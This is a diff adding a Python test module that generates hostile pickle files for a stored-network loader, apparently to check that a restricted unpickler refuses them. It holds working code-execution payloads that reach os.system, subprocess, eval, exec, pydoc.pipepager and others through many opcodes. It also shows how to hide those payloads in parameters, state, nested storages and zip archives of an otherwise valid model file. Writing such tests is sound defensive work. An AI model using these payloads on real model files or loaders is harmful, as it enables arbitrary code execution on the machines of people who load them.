@@ -1,0 +1,238 @@
+"""Hostile files: exploits of pickle in every place of a stored network, by every opcode that can act.
+
+Each case makes the bytes of a file, given the command that would leave the marker. Those in ``EXPLOITS`` are live:
+the standard library's ``pickle`` runs the command.
+"""
+
+from __future__ import annotations
+
+import copyreg
+import io
+import os
+import pickle
+import struct
+import subprocess
+from collections import OrderedDict
+from collections.abc import Callable
+
+import torch
+from foreign_cases import SMALL, Stored, foreign_modules, random_tensors, stored_content
+from torch import nn
+
+Case = Callable[[str], bytes]
+PROTOCOL = b"\x80\x04"
+SYSTEM = f"{os.system.__module__}.system"  # what the file calls os.system
+EXTENSION = 0xE7  # a private code of copyreg's registry
+
+
+class Call:
+    """Pickled as a call of ``function(*arguments)``, perhaps followed by a state."""
+
+    def __init__(self, function: Callable, *arguments: object, state: object = None):
+        self.reduced = (function, arguments) if state is None else (function, arguments, state)
+
+    def __reduce__(self):
+        return self.reduced
+
+
+def text(value: str) -> bytes:
+    """SHORT_BINUNICODE or BINUNICODE."""
+    content = value.encode()
+    return (
+        b"\x8c" + bytes([len(content)]) + content
+        if len(content) < 256
+        else b"X" + struct.pack("<I", len(content)) + content
+    )
+
+
+def name(module: str, qualified: str) -> bytes:
+    """STACK_GLOBAL."""
+    return text(module) + text(qualified) + b"\x93"
+
+
+def call(module: str, qualified: str, *arguments: bytes) -> bytes:
+    """REDUCE."""
+    return name(module, qualified) + b"(" + b"".join(arguments) + b"tR"
+
+
+def register_extension() -> None:
+    if (os.__name__, "system") not in copyreg._extension_registry:
+        copyreg.add_extension(os.__name__, "system", EXTENSION)
+
+
+def extension(command: str) -> bytes:
+    register_extension()
+    return PROTOCOL + b"\x82" + bytes([EXTENSION]) + text(command) + b"\x85R."
+
+
+def attribute_chain(command: str) -> bytes:
+    """``os.system`` as an attribute of a harmless name in torch, by a dotted name."""
+    return PROTOCOL + call("torch.serialization", "os.system", text(command)) + b"."
+
+
+def build_with_setstate(command: str) -> bytes:
+    """BUILD on a class whose ``__setstate__`` was set, by BUILD, to ``os.system``."""
+    make = b"(" + name("builtins", "object") + b"t"
+    kind = (
+        name("builtins", "type") + b"(" + text("K") + make + b"}" + text("__setstate__") + name("os", "system") + b"stR"
+    )
+    return PROTOCOL + kind + b")\x81" + text(command) + b"b."
+
+
+def imported_attribute(command: str) -> bytes:
+    module = call("builtins", "__import__", text("os"))
+    return PROTOCOL + call("builtins", "getattr", module, text("system")) + text(command) + b"\x85R."
+
+
+def partial(command: str) -> bytes:
+    return PROTOCOL + call("functools", "partial", name("os", "system"), text(command)) + b")R."
+
+
+def mapped(command: str) -> bytes:
+    calls = call("builtins", "map", name("os", "system"), text(command) + b"\x85")
+    return PROTOCOL + call("builtins", "list", calls) + b"."
+
+
+EXPLOITS: dict[str, tuple[Case, str]] = {
+    "reduce": (lambda c: pickle.dumps(Call(os.system, c)), SYSTEM),
+    "reduce_protocol_0": (lambda c: pickle.dumps(Call(os.system, c), protocol=0), "neither a pickle"),
+    "reduce_popen": (lambda c: pickle.dumps(Call(subprocess.run, c.split())), "subprocess.run"),
+    "eval": (lambda c: pickle.dumps(Call(eval, f"__import__('os').system({c!r})")), "builtins.eval"),
+    "exec": (lambda c: pickle.dumps(Call(exec, f"import os; os.system({c!r})")), "builtins.exec"),
+    "getattr": (imported_attribute, "builtins.getattr"),
+    "inst": (lambda c: b"\x80\x02" + f"(S{c!r}\nios\nsystem\n.".encode(), "INST"),
+    "obj": (lambda c: b"\x80\x02" + f"(cos\nsystem\nS{c!r}\no.".encode(), "os.system"),
+    "extension": (extension, "EXT1"),
+    "dotted_name": (attribute_chain, "torch.serialization.os.system"),
+    "setstate": (build_with_setstate, "builtins.type"),
+    "partial": (partial, "functools.partial"),
+    "map": (mapped, "builtins.list"),
+    "pydoc": (lambda c: PROTOCOL + call("pydoc", "pipepager", text(""), text(c)) + b".", "pydoc.pipepager"),
+}
+
+
+def network_with(change: Callable[[dict, nn.Module], None], conditional: bool = True, zipped: bool = False) -> bytes:
+    """A stored network after ``change(content, network)``."""
+    with foreign_modules():
+        content = stored_content(random_tensors(SMALL, conditional), SMALL, conditional, "pass")
+        network = content["ema"].model if conditional else content["ema"]
+        change(content, network)
+        stream = io.BytesIO()
+        torch.save(content, stream) if zipped else stream.write(pickle.dumps(content, protocol=4))
+        return stream.getvalue()
+
+
+def legacy(storage: torch.UntypedStorage | torch.TypedStorage) -> bytes:
+    stream = io.BytesIO()
+    torch.save(storage, stream, _use_new_zipfile_serialization=False)
+    return stream.getvalue()
+
+
+def ones(count: int) -> torch.TypedStorage:
+    return torch.ones(count)._typed_storage()
+
+
+def tensor_of(content: bytes, *view: object) -> Call:
+    """A tensor whose storage is the nested bytes ``content``."""
+    storage = Call(torch.storage._load_from_bytes, content)
+    return Call(torch._utils._rebuild_tensor_v2, storage, *(view or (0, (4,), (1,))), False, OrderedDict())
+
+
+def as_parameter(value: object) -> bytes:
+    def change(content: dict, network: Stored) -> None:
+        network.enc._parameters["emb_gain"] = value
+
+    return network_with(change)
+
+
+def in_state(value: object) -> Callable[[dict, Stored], None]:
+    return lambda content, network: network.__dict__.update(note=value)
+
+
+def in_arguments(value: object) -> Callable[[dict, Stored], None]:
+    return lambda content, network: network.__dict__["_init_kwargs"].update(dropout=value)
+
+
+def as_meta(place: int, value: object) -> Callable[[dict, Stored], None]:
+    """The class's name (0) or source code (1) of a persistent object."""
+
+    def change(content: dict, network: Stored) -> None:
+        stored = list(network.__dict__["stored_as"])
+        stored[place] = value
+        network.__dict__["stored_as"] = tuple(stored)
+
+    return change
+
+
+def exploit(command: str) -> Call:
+    return Call(os.system, command)
+
+
+class PastReferences(pickle.Unpickler):
+    def persistent_load(self, pid: object) -> None:
+        return None
+
+
+def hostile_legacy(command: str, place: int) -> bytes:
+    """The nested bytes of a storage, with an exploit for one of their five pickles."""
+    stream = io.BytesIO(legacy(ones(4)))
+    for _ in range(place):
+        PastReferences(stream).load()
+    return stream.getvalue()[: stream.tell()] + pickle.dumps(exploit(command))
+
+
+def hostile_reference(command: str) -> bytes:
+    """Nested bytes whose persistent id has an exploit for the storage's type."""
+    content = legacy(ones(4))
+    return content.replace(b"ctorch\nFloatStorage\n", f"cos\nsystem\n(S{command!r}\ntR".encode())
+
+
+def beside(key: str, value: object) -> Callable[[dict, Stored], None]:
+    return lambda content, network: content.update({key: value})
+
+
+def in_encoder(value: object) -> Callable[[dict, Stored], None]:
+    return lambda content, network: content["encoder"].__dict__.update(note=value)
+
+
+def as_hooks(command: str) -> bytes:
+    return as_parameter(Call(torch._utils._rebuild_parameter, torch.ones(1), False, exploit(command)))
+
+
+def instance(content: bytes) -> bytes:
+    """An opcode's ``content`` on the class of a package."""
+    return PROTOCOL + name("setuptools", "Command") + content + b"."
+
+
+def state_of_name(module: str, qualified: str) -> bytes:
+    """BUILD on a class or function, to change it."""
+    return PROTOCOL + name(module, qualified) + b"}" + text("add") + text("x") + b"sb."
+
+
+# Exploits in each place of an otherwise good file: case, and what the refusal names.
+PLACES: dict[str, tuple[Case, str]] = {
+    "beside_the_network": (lambda c: network_with(beside("loss_fn", exploit(c))), SYSTEM),
+    "in_the_encoder": (lambda c: network_with(in_encoder(exploit(c))), SYSTEM),
+    "as_the_network": (lambda c: network_with(beside("ema", exploit(c))), SYSTEM),
+    "in_state": (lambda c: network_with(in_state(exploit(c))), SYSTEM),
+    "in_constructor_arguments": (lambda c: network_with(in_arguments(exploit(c))), SYSTEM),
+    "as_source_code": (lambda c: network_with(as_meta(1, exploit(c))), SYSTEM),
+    "as_class_name": (lambda c: network_with(as_meta(0, exploit(c))), SYSTEM),
+    "as_parameter": (lambda c: as_parameter(exploit(c)), SYSTEM),
+    "as_dictionary_key": (lambda c: network_with(in_state({exploit(c): 1})), SYSTEM),
+    "as_hooks": (as_hooks, SYSTEM),
+    "in_a_zip": (lambda c: network_with(in_state(exploit(c)), zipped=True), SYSTEM),
+    **{
+        f"in_nested_bytes_{place}": (lambda c, place=place: as_parameter(tensor_of(hostile_legacy(c, place))), SYSTEM)
+        for place in range(5)
+    },
+    "in_nested_persistent_id": (lambda c: as_parameter(tensor_of(hostile_reference(c))), "os.system"),
+    "as_torch_load": (lambda c: as_parameter(Call(torch.load, pickle.dumps(exploit(c)))), "torch.serialization.load"),
+    "newobj_with_arguments": (lambda c: instance(text(c) + b"\x85\x81"), "with arguments"),
+    "newobj_ex": (lambda c: instance(b")}\x92"), "NEWOBJ_EX"),
+    "build_on_a_class": (lambda c: state_of_name("torch", "Tensor"), "sets the state of the name torch.Tensor"),
+    "build_on_a_replaced_function": (lambda c: state_of_name("torch", "Size"), "sets the state of the name torch.Size"),
+    "persistent_id": (lambda c: PROTOCOL + text(c) + b"Q.", "persistent id"),
+    "textual_persistent_id": (lambda c: b"\x80\x02P" + c.encode() + b"\n.", "PERSID"),
+    "out_of_band_buffer": (lambda c: b"\x80\x05\x97.", "NEXT_BUFFER"),
+}
